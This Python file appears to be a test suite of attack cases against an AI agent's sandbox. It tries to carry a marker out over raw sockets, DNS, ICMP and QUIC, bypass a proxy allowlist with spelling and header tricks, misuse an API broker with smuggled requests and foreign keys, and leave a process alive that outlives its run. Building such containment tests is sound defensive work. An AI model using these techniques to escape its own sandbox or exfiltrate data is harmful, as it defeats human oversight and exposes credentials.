"""Carrying something out of the box."""

import os
import socket

from agent import *
from attack import after, arrives, attack, meanwhile

EVIL, EVIL6, LISTED = "12.0.0.66", "2a01:66::66", "12.0.0.10"


def http(host="evil.example"):
    return f"GET /{nonce()} HTTP/1.1\r\nHost: {host}\r\n\r\n"


def client_hello(name):
    """The first message of TLS, as any client says it."""
    import ssl

    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    try:
        ssl.create_default_context().wrap_bio(incoming, outgoing, server_hostname=name).do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def datagram(address, port, data, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_DGRAM) as out:
        out.sendto(data, (address, port))


def question(name):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return b"\x12\x34\x01\0\0\1\0\0\0\0\0\0" + labels + b"\0\0\1\0\1"


@attack("tcp", "design 6", arrives())
def _():
    """A connection to an address."""
    connect(EVIL, 443, http())


@attack("http", "design 6", arrives())
def _():
    """A web server that nobody listed."""
    connect(EVIL, 80, http())


@attack("ipv6", "design 6", arrives())
def _():
    """The same over IPv6."""
    connect(EVIL6, 443, http(), socket.AF_INET6)


@attack("other-port", "design 6", arrives())
def _():
    """A listed host, at a port that is not listed."""
    connect(LISTED, 8443, http())


@attack("ssh", "design 6", arrives())
def _():
    """Port 22."""
    connect(EVIL, 22, f"SSH-2.0-{nonce()}\r\n")


@attack("private-network", "design 6", arrives())
def _():
    """A host of the private network."""
    connect("10.66.0.1", 80, http("internal"))


@attack("metadata-service", "design 6", arrives())
def _():
    """The metadata service of a cloud."""
    connect("169.254.169.254", 80, http("169.254.169.254"))


@attack("gateway", "design 6", arrives())
def _():
    """The machine that the box is on."""
    connect("11.0.0.1", 443, http("gateway"))


@attack("quic", "design 6", arrives())
def _():
    """UDP, as HTTP/3 has it."""
    datagram(EVIL, 443, nonce().encode())


@attack("quic-ipv6", "design 6", arrives())
def _():
    """UDP over IPv6."""
    datagram(EVIL6, 443, nonce().encode(), socket.AF_INET6)


@attack("name-to-resolver", "design 6", arrives())
def _():
    """The secret is a name that somebody looks up."""
    try:
        socket.getaddrinfo(f"{nonce()}.evil.example", 443)
    except OSError as error:
        print(error)


@attack("dns-to-own-server", "design 6", arrives())
def _():
    """A question to a resolver of the attacker's."""
    datagram(EVIL, 53, question(f"{nonce()}.example"))


@attack("dns-over-tcp", "design 6", arrives())
def _():
    """Port 53 over TCP."""
    connect(EVIL, 22, question(f"{nonce()}.example"))
    connect(EVIL, 443, question(f"{nonce()}.example"))


@attack("ping", "design 6", arrives())
def _():
    """ICMP, without rights and with."""
    packet = b"\x08\0\0\0\0\1\0\1" + nonce().encode()
    for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW):
        try:
            with socket.socket(socket.AF_INET, kind, 1) as out:
                out.sendto(packet, (EVIL, 0))
        except OSError as error:
            print(error)


@attack("raw-ip", "design 6", arrives())
def _():
    """A protocol of its own on a raw socket."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, 253) as out:
        out.sendto(nonce().encode(), (EVIL, 0))


@attack("raw-ip-as-root", "design 6", arrives())
def _():
    """The same as root."""
    print(sudo("python3 -c 'import socket, sys; "
               f"socket.socket(2, 3, 253).sendto(b\"{nonce()}\", (\"{EVIL}\", 0))' 2>&1"))


@attack("raw-frame", "design 6", arrives())
def _():
    """A whole frame, past every rule for packets."""
    code = f"import socket; s = socket.socket(17, 3); s.bind((\"b0\", 0)); s.send(b\"\\xff\" * 12 + b\"\\x88\\xb5\" + b\"{nonce()}\")"
    print(shell(f"python3 -c '{code}' 2>&1"), sudo(f"python3 -c '{code}' 2>&1"))


@attack("fast-open", "design 6", arrives())
def _():
    """Data in the first packet (sendto with MSG_FASTOPEN), where connect() is not called."""
    with socket.socket() as out:
        out.sendto(http().encode(), 0x20000000, (EVIL, 443))


@attack("listen-and-wait", "design 6", meanwhile(lambda case: case.fetched(9876)))
def _():
    """A server in the box, for somebody outside to fetch from."""
    with socket.socket() as server:
        server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        server.bind(("0.0.0.0", 9876))
        server.listen()
        server.settimeout(SECONDS - 1)
        if not os.fork():
            server.accept()[0].sendall(nonce().encode())
            os._exit(0)
        hold()


# --- by way of the proxy ------------------------------------------------------------------------------------------------


@attack("proxy-name", "design 6", arrives())
def _():
    """CONNECT to a name that nobody listed."""
    tunnel("evil.example:443")


@attack("proxy-address", "design 6", arrives())
def _():
    """CONNECT to an address."""
    tunnel(f"{EVIL}:443")


@attack("proxy-listed-address", "design 6", arrives())
def _():
    """CONNECT to the address of a listed name, by number."""
    tunnel(f"{LISTED}:443")


@attack("proxy-private", "design 6", arrives())
def _():
    """CONNECT to a private address."""
    tunnel("10.66.0.1:443")


@attack("proxy-name-of-private", "design 6", arrives())
def _():
    """CONNECT to a listed name that leads to a private address."""
    tunnel("rebind.example:443")


@attack("proxy-metadata", "design 6", arrives())
def _():
    """CONNECT to the metadata service."""
    tunnel("169.254.169.254:443")


@attack("proxy-other-port", "design 6", arrives())
def _():
    """CONNECT to a listed name at another port."""
    tunnel("listed.example:22")


@attack("proxy-trailing-dot", "design 6", arrives())
def _():
    """CONNECT to a name with a dot at its end."""
    tunnel("evil.example.:443")


@attack("proxy-upper-case", "design 6", arrives())
def _():
    """CONNECT to a name in capitals."""
    tunnel("EVIL.EXAMPLE:443")


@attack("proxy-user-part", "design 6", arrives())
def _():
    """CONNECT to a listed name before an @."""
    tunnel("listed.example:443@evil.example:443")


@attack("proxy-suffix", "design 6", arrives())
def _():
    """CONNECT to a name that begins and one that ends as a listed one."""
    tunnel("listed.example.evil.example:443")
    tunnel("notlisted.example:443")


@attack("proxy-homograph", "design 6", arrives())
def _():
    """CONNECT to a name that only looks like a listed one."""
    tunnel("xn--lsted-yxa.example.evil.example:443")


@attack("proxy-numbers", "design 6", arrives())
def _():
    """CONNECT to an address in other spellings: one number, octal, hexadecimal."""
    for spelling in (str(int.from_bytes(socket.inet_aton(EVIL), "big")), "0xc000042", "014.0.0.0102", "12.66"):
        tunnel(f"{spelling}:443")


@attack("proxy-mapped", "design 6", arrives())
def _():
    """CONNECT to an IPv4 address in the clothes of IPv6."""
    tunnel(f"[::ffff:{EVIL}]:443")


@attack("proxy-ipv6", "design 6", arrives())
def _():
    """CONNECT to an IPv6 address."""
    tunnel(f"[{EVIL6}]:443")


@attack("proxy-loopback", "H1", after(lambda case: "HTTP/1.1 200" in case.output))
def _():
    """CONNECT to the box's own servers, which trust nobody less than themselves."""
    for name in ("127.0.0.1:8080", "localhost:8080", "[::1]:8080", "0.0.0.0:8080"):
        if proxy():
            tunnel(name, "GET /status HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")


@attack("proxy-host-header", "design 6", arrives())
def _():
    """CONNECT to evil with a Host that is listed."""
    tunnel("evil.example:443", host="listed.example:443")


@attack("proxy-second-host", "design 6", arrives())
def _():
    """CONNECT with more than one idea of where to go."""
    at = proxy()
    tunnel("evil.example:443", head=at and f"CONNECT listed.example:443 HTTP/1.1\r\nHost: listed.example:443\r\nHost: evil.example:443\r\n"
           f"X: y\r\n{authority(at)}\r\nCONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n{authority(at)}\r\n",
           payload=http())


@attack("proxy-split-line", "design 6", arrives())
def _():
    """CONNECT with line ends and a zero byte in the name."""
    at = proxy()
    for name in ("listed.example\0.evil.example", "evil.example:443 HTTP/1.1\r\nHost: listed.example\r\n\r\nx", "evil.example\n", "evil.example\t"):
        tunnel("evil.example:443", head=at and f"CONNECT {name}:443 HTTP/1.1\r\nHost: listed.example\r\n{authority(at)}\r\n")


@attack("proxy-plain", "design 6", arrives())
def _():
    """A plain request for another server."""
    at = proxy()
    tunnel("evil.example:80", head=at and f"GET http://evil.example/{nonce()} HTTP/1.1\r\nHost: listed.example\r\n{authority(at)}\r\n")


@attack("proxy-server-name", "design 6", arrives())
def _():
    """TLS in a permitted tunnel that names another server (SNI), for what stands behind the address."""
    tunnel("listed.example:443", client_hello(f"{nonce()}.evil.example"))


@attack("proxy-not-tls", "design 6", arrives())
def _():
    """Another protocol than TLS, with another Host, in a permitted tunnel."""
    tunnel("listed.example:443", http())


@attack("proxy-of-others", "design 6", arrives())
def _():
    """The proxy without the run's own name and password, or with made-up ones."""
    at = proxy()
    for header in ("", "Proxy-Authorization: Basic eDp5\r\n"):
        tunnel("evil.example:443", head=at and f"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example\r\n{header}\r\n")


# --- by way of the API ---------------------------------------------------------------------------------------------------


def message():
    return '{"model":"claude-sonnet-4-5","max_tokens":1,"messages":[{"role":"user","content":"%s"}]}' % nonce()


@attack("own-key-to-the-api", "design 3", after(lambda case: case.world.model_has_seen(case.nonce, key="attackers-own")))
def _():
    """The attacker's own key to the allowed host: what it asks stands in the attacker's account."""
    print(api("/v1/messages", "attackers-own-" + nonce(), message()))


@attack("own-key-in-other-headers", "design 3", after(lambda case: case.world.model_has_seen(case.nonce, key="attackers-own")))
def _():
    """The attacker's key in each spelling that a broker could forget."""
    for header in ("Authorization: Bearer attackers-own", "X-API-KEY : attackers-own", "x-api-key:attackers-own\r\nx-api-key: attackers-own",
                   "Proxy-Authorization: attackers-own", "Cookie: sessionKey=attackers-own", "x-api-key: a\r\n\tattackers-own"):
        body = message()
        print(api("", "", head=f"POST /v1/messages HTTP/1.1\r\nHost: api.example\r\n{header}\r\nanthropic-version: 2023-06-01\r\n"
                  f"content-type: application/json\r\ncontent-length: {len(body)}\r\nconnection: close\r\n\r\n", body=body))


@attack("files-of-the-api", "design 3", after(lambda case: case.world.model_has_seen(case.nonce, path="other")))
def _():
    """Another part of the API: files to upload, other people's batches."""
    for path in (f"/v1/files?x={nonce()}", f"/v1/messages/batches?x={nonce()}", f"/v1/organizations/{nonce()}"):
        print(api(path, "x", message()))


@attack("path-tricks-of-the-api", "design 3", after(lambda case: case.world.model_has_seen(case.nonce, path="other")))
def _():
    """The same, in clothes of what is allowed."""
    for path in (f"/v1/messages/../files?x={nonce()}", f"/v1/messages/%2e%2e/files/{nonce()}", f"//v1/messages/{nonce()}",
                 f"/v1/messages;x/{nonce()}", f"/v1/messages/..%2ffiles/{nonce()}", f"/v1/messages#/{nonce()}"):
        print(api(path, "x", message()))


@attack("smuggled-request", "design 3", after(lambda case: case.world.model_has_seen(case.nonce, path="other")))
def _():
    """A second request hidden in the first one's body: two lengths."""
    hidden = f"GET /v1/files?x={nonce()} HTTP/1.1\r\nHost: api.example\r\n\r\n"
    for framing in (f"content-length: 5\r\ntransfer-encoding: chunked", f"transfer-encoding : chunked\r\ncontent-length: {5 + len(hidden)}",
                    f"content-length: 5\r\ncontent-length: {5 + len(hidden)}", "content-length: 0"):
        print(api("", "", head="POST /v1/messages HTTP/1.1\r\nHost: api.example\r\ncontent-type: application/json\r\n"
                  f"{framing}\r\n\r\n", body=hidden if framing == "content-length: 0" else "0\r\n\r\n" + hidden))


@attack("host-of-the-api", "design 3", arrives())
def _():
    """A request through the run's way to the API that names another host."""
    for line, host in ((f"POST http://evil.example/v1/messages HTTP/1.1", "evil.example"), ("POST /v1/messages HTTP/1.1", "evil.example"),
                       ("CONNECT evil.example:443 HTTP/1.1", "evil.example:443")):
        head = f"{line}\r\nHost: {host}\r\nx-api-key: x\r\ncontent-length: 0\r\nx-loot: {nonce()}\r\n\r\n{http()}"
        if "ANTHROPIC_UNIX_SOCKET" in os.environ:
            print(api("", "", head=head))
        else:
            connect(EVIL, 80, head)


@attack("key-of-the-dead", "design 3", after(lambda case: case.later(2) and case.world.model_has_seen(case.nonce)), phase="alone")
def _():
    """A process that outlives its run goes on asking the API in its name."""
    own, key = dict(os.environ), os.environ.get("ANTHROPIC_API_KEY", "x")
    if not leave():
        return
    time.sleep(1)
    os.environ.update({name: value for name, value in own.items() if name == "ANTHROPIC_UNIX_SOCKET"})
    api("/v1/messages", key, message())
    os._exit(0)

